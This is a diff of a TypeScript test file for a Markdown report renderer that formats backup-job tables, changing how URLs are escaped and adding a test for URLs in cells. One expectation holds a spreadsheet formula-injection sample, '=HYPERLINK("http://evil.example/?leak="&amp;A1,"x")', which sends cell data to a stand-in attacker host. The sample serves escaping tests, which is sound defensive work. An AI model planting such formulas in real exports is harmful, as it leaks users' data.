@@ -35,7 +35,7 @@ function cells(row: string): string[] {
 }
 
 /** Characters that would mean something to Markdown or HTML, not escaped. */
-const UNESCAPED = /(?<!\\)(?:\\\\)*[`*_~[\]<>]|(?<!\\)(?:\\\\)*(?:@|:\/\/|www\.)/;
+const UNESCAPED = /(?<!\\)(?:\\\\)*[`*_~[\]<>]/;
 
 describe('renderMarkdown', () => {
   it('names the source of each job when the jobs come from more than one EM', () => {
@@ -257,7 +257,24 @@ describe('renderMarkdown', () => {
     expect(output).toContain(
       '| \\`code\\` \\*bold\\* \\_em\\_ \\~\\~strike\\~\\~ \\\\\\* | critical |',
     );
-    expect(output).toContain('=HYPERLINK("http\\://evil.example/?leak="&amp;A1,"x")');
+    expect(output).toContain('=HYPERLINK("http://evil.example/?leak="&amp;A1,"x")');
+  });
+
+  it('shows URLs in job names, reasons and server names as they are, in intact cells', () => {
+    const url = 'https://kb.example/article?id=4 see www.example.org or ops@example.org';
+    const report = twoSourceReport();
+    report.jobs = [
+      jobReport({ jobName: `Copy ${url}`, source: 'http://em.example:9398', reasons: [url] }),
+      jobReport({ jobUid: 'urn:veeam:Job:2', jobName: 'a|b\n<i>', source: 'hq' }),
+    ];
+    report.failedSources = [{ name: 'https://em2.example:9398', error: `401 at ${url}` }];
+    const output = renderMarkdown(report);
+    expect(output).toContain(
+      `| Copy ${url} | http://em.example:9398 | ok | Success | 1h ago | 1 | 100.0% | ${url} |`,
+    );
+    expect(output).toContain('| a\\|b &lt;i&gt; | hq | ok |');
+    expect(output).toContain(`| https://em2.example:9398 | 401 at ${url} |`);
+    expect(output).not.toContain('\\:');
   });
 
   it('escapes the time zone and policy too', () => {
